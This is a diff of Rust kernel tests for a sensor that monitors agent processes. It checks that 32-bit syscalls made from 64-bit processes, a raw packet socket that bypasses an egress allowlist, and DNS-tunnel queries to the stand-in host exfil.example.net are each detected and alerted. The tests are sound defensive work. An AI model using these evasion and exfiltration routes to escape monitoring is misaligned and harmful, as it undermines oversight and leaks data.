@@ -362,46 +362,188 @@ fn xattrs_mknod_and_times_outside_the_worktree_are_writes() {
     }
 }
 
-/// A 64-bit process can make 32-bit syscalls (`int $0x80`), whose numbers mean other calls in
-/// the x86_64 table the sensor decodes: the blind spot itself is reported.
+/// A 64-bit process can make 32-bit syscalls (`int $0x80`): other numbers (`open` is 5, x86_64's
+/// `fstat`), other registers, arguments 32 bits wide (the kernel ignores the registers' upper
+/// halves, which the helper fills with garbage). They are judged as the 64-bit calls that do the
+/// same, `socketcall`'s too; the first of each process is reported besides.
 #[test]
-fn a_32_bit_syscall_from_a_64_bit_process_is_reported() {
-    if !can_run_kernel_tests("a_32_bit_syscall_from_a_64_bit_process_is_reported") {
+fn thirty_two_bit_syscalls_are_judged_as_the_64_bit_calls_they_are() {
+    if !can_run_kernel_tests("thirty_two_bit_syscalls_are_judged_as_the_64_bit_calls_they_are") {
         return;
     }
     let scene = Scene::new("compat");
-    // mov eax, 20 (the i386 getpid); int $0x80; ret — run from an executable page.
-    let script = scene.script(
-        "compat",
-        "import ctypes, mmap, os\n\
-         code = bytes([0xb8, 0x14, 0, 0, 0, 0xcd, 0x80, 0xc3])\n\
-         page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n\
-         page.write(code)\n\
-         getpid32 = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))\n\
-         assert getpid32() == os.getpid()\n\
-         assert getpid32() == os.getpid()\n\
-         print('pid=%d' % os.getpid())\n",
-    );
+    let opened = scene.secret("compat-open");
+    let opened_at = scene.secret("compat-openat");
+    let made = scene.outside.join("compat-dir");
+    let moved = scene.outside.join("compat-moved");
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let helper = scene.script("syscall32", SYSCALL32_PY);
     let sensor = scene.sensor();
-    let out = run_agent(&sensor, "compat", &scene.worktree, &[PYTHON, &script]);
-    let pid = field(&out, "pid");
+    let out = run_agent(
+        &sensor,
+        "compat",
+        &scene.worktree,
+        &[
+            PYTHON,
+            &helper,
+            "getpid",
+            "open",
+            s(&opened),
+            "openat",
+            s(&opened_at),
+            "mkdir",
+            s(&made),
+            "rename",
+            s(&made),
+            s(&moved),
+            "socketcall-connect",
+            "127.0.0.1",
+            &port.to_string(),
+            "socket",
+            "17",
+            "3",
+            "768",
+        ],
+    );
+    // The helper did each thing it claims.
+    let results: Vec<_> = out.lines().map(|l| l.split_once(' ').unwrap()).collect();
+    let pid: u64 = results[0].1.parse().unwrap();
+    assert_eq!(
+        results[1..],
+        [
+            ("open", "secret:compat-open"),
+            ("openat", "secret:compat-openat"),
+            ("mkdir", "0"),
+            ("rename", "0"),
+            ("socketcall-connect", "0"),
+            ("socket", "3"),
+        ],
+        "{out}"
+    );
+    assert!(moved.is_dir());
     let (events, alerts) = finish(sensor);
-    // Once per process, with the i386 number.
+
+    // Read as the calls they are, marked as 32-bit ones.
+    for (path, syscall) in [(&opened, "open"), (&opened_at, "openat")] {
+        let (alert, ev) = expect_alert(&alerts, SENSITIVE_READ, "compat", path);
+        assert_eq!(ev["syscall"], syscall, "{alert:#}");
+        assert_eq!(ev["flags"], serde_json::json!(["i386"]), "{alert:#}");
+    }
+    let (alert, ev) = expect_alert(&alerts, WRITE_OUTSIDE, "compat", &made);
+    assert_eq!(ev["syscall"], "mkdir", "{alert:#}");
+    let (alert, ev) = expect_alert(&alerts, WRITE_OUTSIDE, "compat", &moved);
+    assert_eq!(ev["syscall"], "rename", "{alert:#}");
+    let connects = events_of(&events, "net.connect", pid);
+    assert!(
+        connects.iter().any(|e| e["addr"]["ip"] == "127.0.0.1"
+            && e["addr"]["port"] == port
+            && e["syscall"] == "connect"
+            && e["flags"] == serde_json::json!(["i386"])),
+        "{connects:#?}"
+    );
+    // A packet socket made so is what a 64-bit one is: around the egress allowlist.
+    let sockets = events_of(&events, "net.socket", pid);
+    assert_eq!(sockets.len(), 1, "{events:#?}");
+    assert_eq!(sockets[0]["socket"]["family"], 17, "{:#}", sockets[0]);
+    assert_eq!(
+        summaries(&alerts, "exfil.unallowed_egress", "compat"),
+        [
+            "opened a raw packet socket (type 3, ethertype 0x0003), which sends around the egress \
+          allowlist"
+        ],
+        "{alerts:#?}"
+    );
+
+    // The blind spot's marker, once per process, with the i386 number of its first call.
     let compat = events_of(&events, "process.compat_syscall", pid);
     assert_eq!(compat.len(), 1, "{events:#?}");
     assert_eq!(compat[0]["args"][0], 20, "{:#}", compat[0]);
     assert_eq!(compat[0]["ret"], pid, "{:#}", compat[0]);
-    let tamper: Vec<_> = alerts
-        .iter()
-        .filter(|a| a["rule"] == "tamper.sensor" && a["agent"] == "compat")
-        .collect();
+    let tamper = summaries(&alerts, "tamper.sensor", "compat");
     assert_eq!(tamper.len(), 1, "{alerts:#?}");
     assert!(
-        tamper[0]["summary"]
-            .as_str()
-            .unwrap()
-            .starts_with("made a 32-bit syscall (i386 number 20)"),
+        tamper[0].starts_with("made a 32-bit syscall (i386 number 20)"),
         "{tamper:#?}"
+    );
+}
+
+/// A DNS tunnel sent with 32-bit calls (i386's `sendmsg`, whose `struct msghdr` has 32-bit
+/// fields, and `socketcall`'s `sendmsg`, `sendto` and `send`): each query is read as a
+/// 64-bit `sendto` of the same bytes to the same address, parsed and judged.
+#[test]
+fn a_dns_tunnel_through_32_bit_sends_is_caught() {
+    if !can_run_kernel_tests("a_dns_tunnel_through_32_bit_sends_is_caught") {
+        return;
+    }
+    let scene = Scene::new("compatdns");
+    let helper = scene.script("syscall32", SYSCALL32_PY);
+    let hows = [
+        "sendmsg",
+        "socketcall-sendmsg",
+        "socketcall-sendto",
+        "socketcall-send",
+    ];
+    let queries: Vec<String> = (0..hows.len() as u8)
+        .map(|i| {
+            let mut q = vec![0, i, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+            let name = format!("mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv{i}.exfil.example.net");
+            for label in name.split('.') {
+                q.push(label.len() as u8);
+                q.extend_from_slice(label.as_bytes());
+            }
+            q.extend_from_slice(&[0, 0, 16, 0, 1]);
+            let hex: String = q.iter().map(|b| format!("{b:02x}")).collect();
+            format!("hex:{hex}")
+        })
+        .collect();
+    let _resolver =
+        std::net::UdpSocket::bind("127.0.0.78:53").expect("loopback listener on 127.0.0.78:53");
+    let mut argv = vec![PYTHON, &helper];
+    for (how, query) in hows.iter().zip(&queries) {
+        argv.extend(["send", how, "127.0.0.78", "53", query.as_str()]);
+    }
+    let sensor = scene.sensor();
+    let out = run_agent(&sensor, "compatdns", &scene.worktree, &argv);
+    let sent: Vec<_> = out.lines().collect();
+    assert_eq!(
+        sent,
+        hows.iter()
+            .map(|how| format!("send {how} 77"))
+            .collect::<Vec<_>>(),
+        "{out}"
+    );
+    let (events, alerts) = finish(sensor);
+    let queried: Vec<_> = events
+        .iter()
+        .filter(|e| e["kind"] == "net.send" && e["flags"] == serde_json::json!(["i386"]))
+        .map(|e| {
+            (
+                e["syscall"].clone(),
+                e["addr"]["port"].clone(),
+                e["bytes"].clone(),
+                e["dns"]["name"].clone(),
+            )
+        })
+        .collect();
+    let expected: Vec<_> = (0..hows.len())
+        .map(|i| {
+            (
+                serde_json::json!("sendto"),
+                serde_json::json!(53),
+                serde_json::json!(77),
+                serde_json::json!(format!(
+                    "mzxw6ytboi4tcnrrgqzdgnbvgy3tqojqgeztmnbv{i}.exfil.example.net"
+                )),
+            )
+        })
+        .collect();
+    assert_eq!(queried, expected, "{events:#?}");
+    assert!(
+        alerts
+            .iter()
+            .any(|a| a["rule"] == "exfil.dns_tunnel" && a["agent"] == "compatdns"),
+        "{alerts:#?}"
     );
 }
 
